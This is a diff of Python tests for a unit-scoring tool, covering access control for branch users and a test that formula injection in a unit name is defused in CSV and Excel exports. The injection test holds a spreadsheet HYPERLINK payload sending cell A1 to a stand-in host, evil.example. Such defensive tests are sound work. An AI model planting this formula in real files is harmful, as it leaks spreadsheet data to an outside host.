@@ -164,39 +164,32 @@ def test_the_sql_console_snapshot_holds_no_accounts_or_assessor_input(
         console.close()
 
 
-@pytest.fixture(scope="module")
-def demo_result(demo_db: Path):  # type: ignore[no-untyped-def]
+def test_a_branch_user_asking_for_another_unit_gets_nothing(fresh_demo_db: Path) -> None:
+    from kaohe import publish, results, scorecard
     from kaohe.periods import parse_period
-    from kaohe.scheme import load_scheme, scheme_for_period
-    from kaohe.scoring import score_period
 
     period = parse_period("2025")
-    with Store(demo_db) as store:
-        return score_period(store, period, load_scheme(scheme_for_period(period)))
-
-
-def test_a_branch_user_asking_for_another_unit_gets_nothing(demo_result) -> None:  # type: ignore[no-untyped-def]
-    from kaohe import scorecard
-    from kaohe.export import scoped
-
     branch = Viewer("sq01", Role.BRANCH, unit_id="SQ01")
-    with pytest.raises(AccessDenied):
-        scorecard.visible(demo_result, branch)  # unpublished scores
-    published = scorecard.visible(demo_result, branch, published=True)
-    assert published.units["unit_id"].tolist() == ["SQ01"]
-    assert set(published.lines["unit_id"]) == {"SQ01"}
-    assert scoped(demo_result, branch).units["unit_id"].tolist() == ["SQ01"]
-    with pytest.raises(AccessDenied, match="SQ01"):
-        scorecard.compare_units(demo_result, ["SQ01", "SQ02"], branch)
+    with Store(fresh_demo_db) as store:
+        with pytest.raises(AccessDenied):
+            results.view(store, branch, period)  # unpublished scores
+        publish.publish(store, Viewer("书记", Role.SECRETARY), period)
+        shown = results.view(store, branch, period)
+        assert shown.score.units["unit_id"].tolist() == ["SQ01"]
+        assert set(shown.score.lines["unit_id"]) == {"SQ01"}
+        assert set(shown.score.adjustments["unit_id"]) <= {"SQ01"}
+        assert shown.units_scored == 36  # its rank is out of every unit, though it sees one row
+        with pytest.raises(AccessDenied, match="SQ01"):
+            scorecard.compare_units(shown.score, ["SQ01", "SQ02"], branch)
+        with pytest.raises(AccessDenied):
+            results.view(store, branch, period, published=False)  # asking for the live figures changes nothing
 
 
 def test_formula_injection_in_a_unit_name_never_reaches_a_spreadsheet_as_a_formula(fresh_demo_db: Path) -> None:
+    from kaohe.export import context
     from kaohe.export import csv_bytes as export_csv
-    from kaohe.export import gather
     from kaohe.export_xlsx import workbook_bytes
     from kaohe.periods import parse_period
-    from kaohe.scheme import load_scheme, scheme_for_period
-    from kaohe.scoring import score_period
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
     with Store(fresh_demo_db) as store:
@@ -205,9 +198,8 @@ def test_formula_injection_in_a_unit_name_never_reaches_a_spreadsheet_as_a_formu
         )
         roster = [["编号", "党组织名称", "类型", "所属社区", "党员数"], ["SQ01", evil, kind, community, str(members)]]
         assert import_file(store, csv_bytes(roster), "名册更新.csv").loaded == 1
-        period = parse_period("2025")
-        result = score_period(store, period, load_scheme(scheme_for_period(period)))
-        ctx = gather(store, result, LOCAL_VIEWER)
+        ctx = context(store, LOCAL_VIEWER, parse_period("2025"))
+        result = ctx.result
         text = export_csv(ctx).decode("utf-8-sig")
         book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(ctx)))
     assert evil in result.units["unit"].tolist()
